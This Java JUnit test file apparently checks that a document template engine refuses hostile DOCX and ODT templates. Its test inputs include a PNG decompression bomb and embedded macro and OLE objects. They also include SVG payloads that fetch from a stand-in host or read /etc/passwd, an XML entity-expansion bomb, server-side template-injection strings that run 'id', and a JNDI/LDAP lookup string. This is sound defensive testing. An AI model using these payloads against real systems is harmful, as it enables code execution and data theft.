package fr.vaguemestre.template.engine;

import static fr.vaguemestre.office.OfficeSamples.docxBody;
import static fr.vaguemestre.office.OfficeSamples.odtBody;
import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import fr.vaguemestre.office.OfficeSamples;
import fr.vaguemestre.platform.Refusal;
import java.awt.image.BufferedImage;
import java.io.ByteArrayInputStream;
import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.nio.ByteBuffer;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.Map;
import java.util.zip.CRC32;
import java.util.zip.ZipEntry;
import java.util.zip.ZipInputStream;
import java.util.zip.ZipOutputStream;
import javax.imageio.ImageIO;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

/** REP1: what a template may not carry beyond what {@code TemplateEngineTest} tries. */
class HostileTemplateTest {
  private static final int WIDTH_IN_IHDR = 16;

  @TempDir Path folder;

  @Test
  void REP1_a_picture_that_unpacks_too_large_is_named_whatever_its_name() throws IOException {
    var bomb = png(60_000, 60_000);
    assertThat(bomb.length).isLessThan(1000);
    for (var name : new String[] {"word/media/image1.png", "word/media/image1.bin"}) {
      assertThat(check(TemplateFormat.DOCX, with(docxBody(p("x")), name, bomb)))
          .extracting(TemplateProblem::key, TemplateProblem::where)
          .containsExactly(org.assertj.core.groups.Tuple.tuple("template.picture-too-large", name));
    }
    assertThat(check(TemplateFormat.ODT, with(odtBody("<text:p/>"), "Pictures/a.png", bomb)))
        .extracting(TemplateProblem::key)
        .containsExactly("template.picture-too-large");
    assertThat(check(TemplateFormat.DOCX, with(docxBody(p("x")), "word/media/a.png", png(8, 8))))
        .isEmpty();
  }

  @Test
  void REP1_a_document_in_the_document_is_named_whatever_its_name() throws IOException {
    var macros = docxBody(p("x"), Map.of("word/vbaProject.bin", "x"));
    assertThat(check(TemplateFormat.DOCX, with(docxBody(p("x")), "word/media/image1.png", macros)))
        .extracting(TemplateProblem::key, TemplateProblem::where)
        .containsExactly(
            org.assertj.core.groups.Tuple.tuple("template.ole-object", "word/media/image1.png"));
    byte[] ole = {(byte) 0xd0, (byte) 0xcf, 0x11, (byte) 0xe0, 0, 0, 0, 0};
    assertThat(check(TemplateFormat.ODT, with(odtBody("<text:p/>"), "autre/x.dat", ole)))
        .extracting(TemplateProblem::key)
        .containsExactly("template.ole-object");
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "<image href='http://spy.example/x.png'/>",
        "<image xlink:href='file:///etc/passwd'/>",
        "<style>@import 'http://spy.example/x.css';</style>",
        "<rect style='fill:url(http://spy.example/x.svg#a)'/>",
        "<rect fill='url( \"http://spy.example/x.svg#a\")'/>"
      })
  void REP1_a_drawing_that_fetches_is_named(String inside) throws IOException {
    assertThat(check(TemplateFormat.DOCX, drawing(inside)))
        .extracting(TemplateProblem::key)
        .containsExactly("template.external-link");
  }

  @Test
  void REP1_a_drawing_that_runs_or_expands_is_named_and_a_plain_one_is_fine() throws IOException {
    assertThat(check(TemplateFormat.DOCX, drawing("<script>alert(1)</script>")))
        .extracting(TemplateProblem::key)
        .containsExactly("template.macro");
    var laughs =
        "<!DOCTYPE svg [<!ENTITY a 'ha'><!ENTITY b '&a;&a;&a;'>]><svg"
            + " xmlns='http://www.w3.org/2000/svg'>&b;</svg>";
    assertThat(
            check(TemplateFormat.DOCX, docxBody(p("x"), Map.of("word/media/image1.svg", laughs))))
        .extracting(TemplateProblem::key)
        .containsExactly("template.dtd");
    assertThat(
            check(
                TemplateFormat.DOCX,
                drawing(
                    "<rect id='a' fill='url( #b)' style='stroke:url(\"#c\")'/><use href='#a'/>")))
        .isEmpty();
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "T(java.lang.Runtime).getRuntime().exec('id')",
        "courrier.class.forName('java.lang.Runtime')",
        "expediteur.nom?new()",
        "\"\".getClass().getClassLoader()",
        "__import__('os').system('id')",
        "agent.nom | attr('__class__')"
      })
  void REP1_an_expression_is_an_unknown_field_and_never_evaluated(String expression)
      throws IOException {
    var xml = expression.replace("<", "&lt;");
    assertThat(check(TemplateFormat.DOCX, docxBody(p("{{" + xml + "}}"))))
        .extracting(TemplateProblem::key, TemplateProblem::field)
        .containsExactly(org.assertj.core.groups.Tuple.tuple("template.unknown-field", expression));
    assertThat(check(TemplateFormat.DOCX, docxBody(p("{{#si " + xml + "}}x{{/si}}"))))
        .extracting(TemplateProblem::key)
        .contains("template.unknown-field");
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "${7*7}",
        "#{7*7}",
        "%{7*7}",
        "#set($x = 7*7)$x",
        "{% print 7*7 %}",
        "${jndi:ldap://spy.example/a}"
      })
  void REP1_another_language_s_marks_are_plain_words(String written) throws IOException {
    var template = docxBody(p(written.replace("<", "&lt;") + " {{courrier.objet}}"));
    assertThat(check(TemplateFormat.DOCX, template)).isEmpty();
    var out = new ByteArrayOutputStream();
    TemplateEngine.merge(write(template), Map.of("courrier.objet", written), out);
    assertThat(body(out.toByteArray())).contains(written + " ").doesNotContain("49");
  }

  @Test
  void REP1_a_value_with_an_expression_is_written_as_it_is() throws IOException {
    var out = new ByteArrayOutputStream();
    TemplateEngine.merge(
        write(docxBody(p("{{courrier.objet}}"))),
        Map.of("courrier.objet", "{{agent.nom}} =HYPERLINK(\"http://x\")", "agent.nom", "SECRET"),
        out);
    assertThat(body(out.toByteArray())).contains("{ {agent.nom} }").doesNotContain("SECRET");
  }

  @Test
  void REP1_a_hostile_template_is_never_merged_even_if_it_was_kept_before() throws IOException {
    var file = write(with(docxBody(p("x")), "word/media/a.png", png(60_000, 60_000)));
    assertThatThrownBy(() -> TemplateEngine.merge(file, Map.of(), new ByteArrayOutputStream()))
        .isInstanceOfSatisfying(
            Refusal.class,
            r -> {
              assertThat(r.key()).isEqualTo("template.picture-too-large");
              assertThat(r.arguments()).containsExactly("word/media/a.png");
            });
  }

  private static String p(String text) {
    return "<w:p><w:r><w:t xml:space=\"preserve\">" + text + "</w:t></w:r></w:p>";
  }

  private static byte[] drawing(String inside) throws IOException {
    return docxBody(
        p("x"),
        Map.of(
            "word/media/image1.svg",
            "<svg xmlns='http://www.w3.org/2000/svg' xmlns:xlink='http://www.w3.org/1999/xlink'>"
                + inside
                + "</svg>"));
  }

  /** A PNG that says it has these sides; only its first dots are there when it lies. */
  private static byte[] png(int width, int height) throws IOException {
    var out = new ByteArrayOutputStream();
    ImageIO.write(new BufferedImage(8, 8, BufferedImage.TYPE_BYTE_GRAY), "png", out);
    var bytes = out.toByteArray();
    ByteBuffer.wrap(bytes).putInt(WIDTH_IN_IHDR, width).putInt(WIDTH_IN_IHDR + 4, height);
    var checksum = new CRC32();
    checksum.update(bytes, 12, 17);
    ByteBuffer.wrap(bytes).putInt(29, (int) checksum.getValue());
    return bytes;
  }

  private static byte[] with(byte[] document, String name, byte[] more) throws IOException {
    var out = new ByteArrayOutputStream();
    try (var in = new ZipInputStream(new ByteArrayInputStream(document));
        var zip = new ZipOutputStream(out)) {
      for (ZipEntry entry = in.getNextEntry(); entry != null; entry = in.getNextEntry()) {
        var bytes = in.readAllBytes();
        var copy = new ZipEntry(entry.getName());
        if (entry.getName().equals("mimetype")) {
          copy.setMethod(ZipEntry.STORED);
          copy.setSize(bytes.length);
          copy.setCrc(entry.getCrc());
        }
        zip.putNextEntry(copy);
        zip.write(bytes);
      }
      zip.putNextEntry(new ZipEntry(name));
      zip.write(more);
    }
    return out.toByteArray();
  }

  private java.util.List<TemplateProblem> check(TemplateFormat format, byte[] bytes)
      throws IOException {
    return TemplateEngine.check(write(bytes), format, FieldCatalogue.standard());
  }

  private Path write(byte[] bytes) throws IOException {
    return Files.write(folder.resolve("template"), bytes);
  }

  private static String body(byte[] archive) throws IOException {
    try (var zip = new ZipInputStream(new ByteArrayInputStream(archive))) {
      for (ZipEntry entry = zip.getNextEntry(); entry != null; entry = zip.getNextEntry()) {
        if (entry.getName().equals("word/document.xml")) {
          return new String(zip.readAllBytes(), StandardCharsets.UTF_8)
              .replaceAll("<[^>]+>", "")
              .replace("&lt;", "<")
              .replace("&amp;", "&");
        }
      }
    }
    throw new AssertionError(OfficeSamples.class + ": no body");
  }
}
